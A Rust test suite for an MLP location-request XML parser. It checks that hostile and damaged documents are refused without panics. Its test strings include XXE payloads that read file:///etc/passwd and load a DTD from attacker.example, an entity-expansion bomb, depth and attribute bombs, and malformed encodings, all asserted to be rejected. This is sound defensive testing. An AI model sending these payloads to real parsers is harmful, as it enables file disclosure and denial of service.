//! Hostile and damaged documents: always an answer, never a panic, never an expansion.
#![allow(clippy::unwrap_used, clippy::panic, reason = "helpers of tests, outside of test functions")]

mod common;

use common::{parse, refused, with_slir};
use mlp::{Limits, Service, parse_svc_init};
use proptest::prelude::*;

fn sample() -> String {
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svc_init SYSTEM \"MLP_SVC_INIT_320.DTD\">".to_owned()
        + &with_slir(
            "<eqop><resp_req type=\"LOW_DELAY\"/><hor_acc qos_class=\"ASSURED\">100</hor_acc></eqop>\
             <loc_type type=\"CURRENT_OR_LAST\"/><prio type=\"HIGH\"/><pushaddr><url>http://a.example/</url></pushaddr>",
        )
}

#[test]
fn external_entities_and_internal_subsets_are_refused() {
    for doctype in [
        "<!DOCTYPE svc_init [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE svc_init [<!ENTITY % e SYSTEM \"http://attacker.example/x.dtd\"> %e;]>",
        "<!DOCTYPE svc_init SYSTEM \"a[b\" [<!ENTITY x \"y\">]>",
        "<!DOCTYPE svc_init [<!ELEMENT svc_init ANY>]>",
    ] {
        assert_eq!(refused(&(doctype.to_owned() + &with_slir(""))), 106, "{doctype}");
    }
    for doctype in [
        "<!DOCTYPE svc_init SYSTEM \"MLP_SVC_INIT_320.DTD\">",
        "<!DOCTYPE svc_init PUBLIC \"-//OMA//DTD MLP 3.5//EN\" \"http://www.openmobilealliance.org/DTD/x.dtd\">",
        "<!DOCTYPE svc_init SYSTEM \"a[b\">",
        "<!DOCTYPE svc_init SYSTEM 'x' [<?oma-mlp-ver supported-versions=\"3.5\"?> <!-- c -->]>",
    ] {
        assert!(parse(&(doctype.to_owned() + &with_slir(""))).is_ok(), "{doctype}");
    }
}

#[test]
fn entities_of_the_documents_own_are_never_expanded() {
    let laughs =
        "<!DOCTYPE svc_init [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]>".to_owned() + &with_slir("<x>&b;</x>");
    assert_eq!(refused(&laughs), 106);
    assert_eq!(refused(&with_slir("<truck>&b;</truck>")), 106, "even in an extension that is passed over");
    assert_eq!(refused(&with_slir("<prio type='&b;'/>")), 106);
}

#[test]
fn depth_attributes_and_size_are_bounded() {
    let bomb = |depth: usize| with_slir(&("<a>".repeat(depth) + &"</a>".repeat(depth)));
    assert!(parse(&bomb(30)).is_ok(), "svc_init, slir and 30 more are 32");
    assert_eq!(refused(&bomb(31)), 106);
    let deep = "<a>".repeat(80_000);
    assert_eq!(refused(&deep), 108, "the root decides before its depth matters");
    assert_eq!(refused(&with_slir(&deep)), 106);
    let attributes = |count: usize| {
        let list: String = (0..count).map(|n| format!(" a{n}='v'")).collect();
        with_slir(&format!("<truck{list}/>"))
    };
    assert!(parse(&attributes(64)).is_ok());
    assert_eq!(refused(&attributes(65)), 106);
    assert_eq!(refused(&attributes(20_000)), 106);
    let huge = "v".repeat(200_000);
    assert!(parse(&with_slir(&format!("<truck a='{huge}'/>"))).is_ok());
    assert_eq!(refused(&with_slir(&format!("<truck>{huge}{huge}</truck>"))), 106, "larger than 256 KiB");
    assert_eq!(refused(&with_slir("").replace("fleet", &"f".repeat(257))), 110);
    let many: String = (0..9000).map(|_| "<msid>4915110000001</msid>").collect();
    assert_eq!(refused(&common::with_targets(&format!("<msids>{many}</msids>"))), 104);
}

#[test]
fn every_encoding_of_the_list_is_taken() {
    let text = with_slir("").replace("fleet", "Flotte Süd");
    let client = |body: &[u8]| {
        let init = parse_svc_init(body, &Limits::default()).unwrap();
        assert!(matches!(init.service, Service::Immediate(_)));
        init.header.client.unwrap().id
    };
    assert_eq!(client(text.as_bytes()), "Flotte Süd");
    assert_eq!(client(format!("\u{feff}{text}").as_bytes()), "Flotte Süd");
    assert_eq!(client(format!("\r\n\r\n<?xml version='1.0' encoding='utf-8'?>{text}").as_bytes()), "Flotte Süd");
    let declared = format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{text}");
    let latin1: Vec<u8> = declared.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    assert_eq!(client(&latin1), "Flotte Süd");
    let declared = format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{text}");
    let units = |swap: fn(u16) -> [u8; 2], mark: bool| -> Vec<u8> {
        let marked = if mark { format!("\u{feff}{declared}") } else { declared.clone() };
        marked.encode_utf16().flat_map(swap).collect()
    };
    for mark in [true, false] {
        assert_eq!(client(&units(u16::to_be_bytes, mark)), "Flotte Süd");
        assert_eq!(client(&units(u16::to_le_bytes, mark)), "Flotte Süd");
    }
    let ascii = format!("<?xml version='1.0' encoding='US-ASCII'?>{}", with_slir(""));
    assert_eq!(client(ascii.as_bytes()), "fleet");
}

#[test]
fn documents_that_are_not_in_their_encoding_are_106() {
    let refused = |body: &[u8]| parse_svc_init(body, &Limits::default()).unwrap_err().result.0;
    let text = with_slir("").replace("fleet", "Süd");
    assert_eq!(refused(format!("<?xml version='1.0' encoding='US-ASCII'?>{text}").as_bytes()), 106);
    assert_eq!(refused(format!("<?xml version='1.0' encoding='EBCDIC-CP-DE'?>{text}").as_bytes()), 106);
    assert_eq!(refused(format!("<?xml version='1.0' encoding='UTF-16'?>{text}").as_bytes()), 106);
    assert_eq!(refused(b"\xff\xfe<\x00s"), 106);
    assert_eq!(refused(b"\xfe\xff\x00"), 106);
    assert_eq!(refused(b"\xfe\xff\xd8\x00"), 106);
    assert_eq!(refused(b"<svc_init>\xff</svc_init>"), 106);
    assert_eq!(refused(b"<svc_init>\x01</svc_init>"), 106);
    assert_eq!(refused(b"<svc_init>\x00</svc_init>"), 106);
}

/// XML 1.0 production Char: they are refused as they stand and as references, and never written.
#[test]
fn noncharacters_are_neither_taken_nor_told() {
    for noncharacter in ["\u{FFFE}", "\u{FFFF}", "&#xFFFE;", "&#xFFFF;"] {
        let body = common::with_targets(&format!("<msid type=\"ASID\">a{noncharacter}b</msid>"));
        assert_eq!(refused(&body), 106, "{noncharacter:?}");
    }
    let mut out = String::new();
    let (element, info) = (mlp::AnswerElement::Slia, Some("a\u{FFFF}b\u{FFFD}c"));
    mlp::write_failure(&mut out, mlp::Version::V3_5, element, mlp::ResultId::SYSTEM_FAILURE, info);
    assert!(out.contains("<add_info>ab\u{FFFD}c</add_info>"), "{out}");
}

#[test]
fn a_document_cut_anywhere_is_106() {
    let whole = sample();
    assert!(parse(&whole).is_ok());
    for end in 0..whole.len() {
        let error = parse_svc_init(&whole.as_bytes()[..end], &Limits::default()).unwrap_err();
        assert_eq!(error.result.0, 106, "cut at {end}");
        let mut out = String::new();
        error.write(&mut out);
        assert!(mlp::client::parse_svc_result(out.as_bytes()).is_ok(), "cut at {end}: the answer is sound: {out}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn damaged_documents_never_panic_and_are_always_answered(
        damage in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..8)
    ) {
        let mut body = sample().into_bytes();
        for (at, octet, kind) in damage {
            let at = at.index(body.len());
            match kind {
                0 => body[at] = octet,
                1 => body.insert(at, octet),
                _ => drop(body.remove(at)),
            }
        }
        if let Err(error) = parse_svc_init(&body, &Limits::default()) {
            let mut out = String::new();
            error.write(&mut out);
            let answer = mlp::client::parse_svc_result(out.as_bytes()).unwrap();
            prop_assert_eq!(answer.result.unwrap().0, error.result);
            prop_assert!(mlp::ResultId::ALL.contains(&error.result));
        }
    }

    #[test]
    fn elements_of_the_standard_in_any_order_and_nesting_never_panic(
        parts in prop::collection::vec((0usize..24, any::<bool>(), "[-+0-9a-zA-Z.&;# ]{0,12}"), 0..20)
    ) {
        const NAMES: [&str; 24] = ["msids", "msid", "msid_range", "start_msid", "stop_msid", "codeword", "session", "trans_id",
            "gsm_net_param", "eqop", "hor_acc", "ll_acc", "geo_info", "code", "Identifier", "CoordinateReferenceSystem",
            "loc_type", "prio", "pushaddr", "url", "service_coverage", "cc", "esrd", "truck"];
        let (mut text, mut open) = (String::new(), Vec::new());
        for (name, nest, content) in &parts {
            let name = NAMES[*name];
            text.push_str(&format!("<{name}>"));
            if *nest { open.push(name) } else { text.push_str(&format!("{content}</{name}>")) }
        }
        for name in open.into_iter().rev() {
            text.push_str(&format!("</{name}>"));
        }
        for service in ["slir", "eme_lir"] {
            let parsed = parse(&common::with_service(&format!("<{service}>{text}</{service}>")));
            prop_assert!(parsed.is_err() || matches!(parsed.unwrap().service, Service::Immediate(r) if !r.targets.is_empty()));
        }
    }

    #[test]
    fn any_octets_as_an_answer_never_panic_the_client(body in prop::collection::vec(any::<u8>(), 0..400)) {
        let _read = mlp::client::parse_svc_result(&body).is_ok();
    }
}
